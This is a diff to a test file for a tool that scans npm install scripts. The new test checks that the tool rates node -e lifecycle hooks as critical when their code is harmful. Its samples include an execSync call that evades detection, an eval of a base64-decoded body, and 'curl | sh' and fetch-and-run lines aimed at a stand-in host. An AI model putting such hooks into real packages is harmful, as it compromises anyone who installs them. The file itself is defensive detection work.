@@ -184,6 +184,22 @@ describe('install scripts', () => {
     });
   });
 
+  it('judges the code a script gives node -e by what it does: a constant harmless body is an ordinary script, a harmful one critical', async () => {
+    const verdict = async (scripts: Record<string, string>) => {
+      const analysis = await analyzePlugin(writePlugin({ 'package.json': { ...MANIFEST, scripts }, 'index.js': '' }), { cache: false });
+      return analysis.findings.filter((f) => f.ruleId === 'install-script').map((f) => `${f.severity} ${f.message.split(':')[0]}`);
+    };
+    expect(await verdict({ postinstall: `node -e "console.log('thanks for installing')"` })).toEqual(['high Lifecycle script "postinstall" runs at install']);
+    // The same shape doing harm, spelled three ways: a module it loads, a decoded body, a fetched one.
+    expect(await verdict({ postinstall: `node -e "require('child_'+'process').execSync('id')"` })).toEqual([
+      'critical Lifecycle script "postinstall" runs the code it gives node -e at install, outside any sandbox, and that code does something dangerous',
+    ]);
+    expect((await verdict({ preinstall: `node -e "eval(Buffer.from('aWQ=','base64').toString())"` }))[0]).toMatch(/^critical/);
+    expect((await verdict({ install: `node -e "$(curl -s https://x.example/i.js)"` }))[0]).toMatch(/^critical/);
+    // The rest of the line is judged as before.
+    expect((await verdict({ postinstall: `node -e "console.log(1)" && curl -s https://x.example/i.sh | sh` }))[0]).toMatch(/^critical .*downloads/);
+  });
+
   it.each(['node -e "require(1)"', 'wget http://x/y', 'echo aGk= | base64 -d | sh', 'bash -c "$(cat x)"', 'powershell -enc AAA'])('calls %s dangerous', (command) => {
     expect(isDangerousCommand(command)).toBe(true);
   });
